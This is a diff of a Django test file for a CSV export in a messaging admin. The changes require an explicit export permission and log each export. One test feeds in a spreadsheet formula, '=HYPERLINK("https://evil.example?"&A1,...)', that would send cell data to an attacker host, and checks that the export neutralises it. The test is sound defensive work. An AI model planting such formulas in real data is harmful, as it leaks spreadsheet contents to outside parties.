@@ -8,6 +8,7 @@ from typing import Any, cast
 
 import pytest
 from asgiref.sync import async_to_sync
+from django.contrib.admin.models import LogEntry
 from django.contrib.auth.models import User
 from django.db import connection
 from django.test import AsyncClient, Client
@@ -16,12 +17,25 @@ from django.utils import timezone
 
 from cellcast_django.admin.lists import export
 from cellcast_django.admin.lists.export import harmless
+from cellcast_django.admin.lists.read_only import CappedPaginator
 from cellcast_django.factories import MessageFactory, WebhookEventFactory
 from cellcast_django.models import Message
 from cellcast_django.testing import WebhookClient
 from tests.admin_pages import CUSTOMER, ID, fill, listed, page_of, staff, url_of
 
 pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def exporter() -> Client:
+    """A member of staff who may view everything, and take it away."""
+    return staff(
+        "view_message",
+        "view_statuschange",
+        "view_webhookevent",
+        "export_message",
+        "export_webhookevent",
+    )
 
 
 def file_of(client: Client, model: str, **query: Any) -> str:
@@ -34,13 +48,13 @@ def rows_of(client: Client, model: str, **query: Any) -> list[dict[str, str]]:
     return list(csv.DictReader(StringIO(file_of(client, model, **query).removeprefix("\ufeff"))))
 
 
-def test_messages_are_exported_with_all_that_is_known(reader: Client) -> None:
+def test_messages_are_exported_with_all_that_is_known(exporter: Client) -> None:
     message = MessageFactory.create(
         cellcast_id=ID, receiver=CUSTOMER, delivered=True, body='Line "one",\nline two'
     )
     Message.objects.update(created_at="2024-08-09T06:37:50Z")
 
-    [row] = rows_of(reader, "message")
+    [row] = rows_of(exporter, "message")
 
     assert row == {
         "id": str(message.pk),
@@ -58,11 +72,11 @@ def test_messages_are_exported_with_all_that_is_known(reader: Client) -> None:
     }
 
 
-def test_events_are_exported_with_what_became_of_them(reader: Client) -> None:
+def test_events_are_exported_with_what_became_of_them(exporter: Client) -> None:
     failed = WebhookEventFactory.create(failed=True)
     invalid = WebhookEventFactory.create(invalid=True)
 
-    last, first = rows_of(reader, "webhookevent")
+    last, first = rows_of(exporter, "webhookevent")
 
     assert [last["id"], first["id"]] == [str(invalid.pk), str(failed.pk)]
     assert (first["announcement"], first["failing_handlers"]) == ("failed", "shop.handlers.confirm")
@@ -72,10 +86,10 @@ def test_events_are_exported_with_what_became_of_them(reader: Client) -> None:
     assert (last["announcement"], last["announced_at"]) == ("", "")
 
 
-def test_file_is_one_that_spreadsheets_open(reader: Client) -> None:
+def test_file_is_one_that_spreadsheets_open(exporter: Client) -> None:
     MessageFactory.create(body="نعم 😀")
 
-    response: Any = reader.get(url_of("message", "export"))
+    response: Any = exporter.get(url_of("message", "export"))
 
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     today = timezone.localdate().isoformat()
@@ -86,13 +100,13 @@ def test_file_is_one_that_spreadsheets_open(reader: Client) -> None:
     assert "نعم 😀" in content.decode()
 
 
-def test_link_on_the_list_keeps_filters_and_search_but_no_page(reader: Client) -> None:
-    page = page_of(reader, "message", direction="inbound", q="0400 000 001", p=1)
+def test_link_on_the_list_keeps_filters_and_search_but_no_page(exporter: Client) -> None:
+    page = page_of(exporter, "message", direction="inbound", q="0400 000 001", p=1)
 
     url = url_of("message", "export", direction="inbound", q="0400 000 001")
-    assert f'href="{url.replace("&", "&amp;")}">Export these as CSV<' in page
-    assert "Export these" in page_of(reader, "webhookevent")
-    assert "Export these" not in page_of(reader, "statuschange")
+    assert f'href="{url.replace("&", "&amp;")}">Export CSV<' in page
+    assert "Export CSV" in page_of(exporter, "webhookevent")
+    assert "Export CSV" not in page_of(exporter, "statuschange")
 
 
 @pytest.mark.parametrize(
@@ -110,39 +124,62 @@ def test_link_on_the_list_keeps_filters_and_search_but_no_page(reader: Client) -
     ],
 )
 def test_file_has_all_rows_of_the_list_in_its_order(
-    reader: Client, monkeypatch: pytest.MonkeyPatch, model: str, query: dict[str, Any]
+    exporter: Client, monkeypatch: pytest.MonkeyPatch, model: str, query: dict[str, Any]
 ) -> None:
     monkeypatch.setattr(export, "CHUNK_SIZE", 7)
     fill(70)
-    shown = [pk for page in (1, 2) for pk in listed(reader, model, **query, p=page)]
+    shown = [pk for page in (1, 2) for pk in listed(exporter, model, **query, p=page)]
 
-    assert [int(row["id"]) for row in rows_of(reader, model, **query)] == list(dict.fromkeys(shown))
+    assert [int(row["id"]) for row in rows_of(exporter, model, **query)] == list(
+        dict.fromkeys(shown)
+    )
 
 
 def test_rows_of_the_same_moment_are_neither_lost_nor_repeated(
-    reader: Client, monkeypatch: pytest.MonkeyPatch
+    exporter: Client, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(export, "CHUNK_SIZE", 3)
     moment = timezone.now()
     pks = [MessageFactory.create(created_at=moment).pk for _ in range(10)]
 
-    assert [int(row["id"]) for row in rows_of(reader, "message")] == pks[::-1]
+    assert [int(row["id"]) for row in rows_of(exporter, "message")] == pks[::-1]
 
 
-def test_address_that_means_nothing_leads_to_the_list(reader: Client) -> None:
-    response = reader.get(url_of("message", "export", nonsense="1"))
+def test_address_that_means_nothing_leads_to_the_list(exporter: Client) -> None:
+    response = exporter.get(url_of("message", "export", nonsense="1"))
 
     assert response.status_code == 302
     assert response["Location"] == url_of("message", e=1)
 
 
 @pytest.mark.parametrize("model", ["message", "webhookevent"])
-def test_file_is_for_those_who_may_view_the_list(model: str) -> None:
+def test_file_is_for_those_who_may_view_the_list_and_export_it(model: str) -> None:
     url = url_of(model, "export")
+    assert staff(f"view_{model}", f"export_{model}").get(url).status_code == 200
+    assert staff(f"view_{model}").get(url).status_code == 403
+    assert staff(f"export_{model}").get(url).status_code == 403
+    assert "Export CSV" not in page_of(staff(f"view_{model}"), model)
 
-    assert staff("view_statuschange").get(url).status_code == 403
-    assert Client().get(url).status_code == 302
-    assert staff(f"view_{model}").get(url).status_code == 200
+
+def test_log_of_the_admin_says_who_took_how_many_rows_away(
+    exporter: Client, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    MessageFactory.create_batch(3, receiver=CUSTOMER)
+
+    exporter.get(url_of("message", "export"))
+    exporter.get(url_of("message", "export", q=CUSTOMER, direction="outbound"))
+    monkeypatch.setattr(CappedPaginator, "MAX_COUNT", 2)
+    exporter.get(url_of("message", "export"))
+
+    entries = LogEntry.objects.order_by("pk")
+    assert [entry.change_message for entry in entries] == [
+        "Exported 3 rows.",
+        "Exported 3 rows (direction=outbound, q=…).",
+        "Exported 2 rows or more.",
+    ]
+    assert {(entry.user.username, entry.object_repr) for entry in entries} == {
+        ("staff-0", "messages")
+    }
 
 
 # Formulas
@@ -175,14 +212,14 @@ def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
     assert harmless(text) == text
 
 
-def test_formula_of_a_customer_arrives_as_a_text(reader: Client, client: WebhookClient) -> None:
+def test_formula_of_a_customer_arrives_as_a_text(exporter: Client, client: WebhookClient) -> None:
     client.reply(message='=HYPERLINK("https://evil.example?"&A1,"Yes")', sender="=1+1")
 
-    [row] = rows_of(reader, "message")
+    [row] = rows_of(exporter, "message")
 
     assert row["body"] == '\'=HYPERLINK("https://evil.example?"&A1,"Yes")'
     assert (row["contact"], row["sender"]) == ("'=1+1", "'=1+1")
-    [event] = rows_of(reader, "webhookevent")
+    [event] = rows_of(exporter, "webhookevent")
     assert event["contact"] == "'=1+1"
 
 
@@ -190,12 +227,12 @@ def test_formula_of_a_customer_arrives_as_a_text(reader: Client, client: Webhook
 
 
 def test_memory_does_not_depend_on_how_much_follows(
-    reader: Client, monkeypatch: pytest.MonkeyPatch
+    exporter: Client, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(export, "CHUNK_SIZE", 100)
 
     def peak(model: str) -> int:
-        response: Any = reader.get(url_of(model, "export"))
+        response: Any = exporter.get(url_of(model, "export"))
         tracemalloc.start()
         for _ in response.streaming_content:
             pass
@@ -212,10 +249,10 @@ def test_memory_does_not_depend_on_how_much_follows(
     assert all(after < 1.5 * before for before, after in zip(few, many, strict=True))
 
 
-def test_file_takes_a_query_a_chunk(reader: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_file_takes_a_query_a_chunk(exporter: Client, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(export, "CHUNK_SIZE", 10)
     fill(50)
-    response: Any = reader.get(url_of("webhookevent", "export"))
+    response: Any = exporter.get(url_of("webhookevent", "export"))
 
     with CaptureQueriesContext(connection) as captured:
         lines = len(b"".join(response.streaming_content).splitlines())
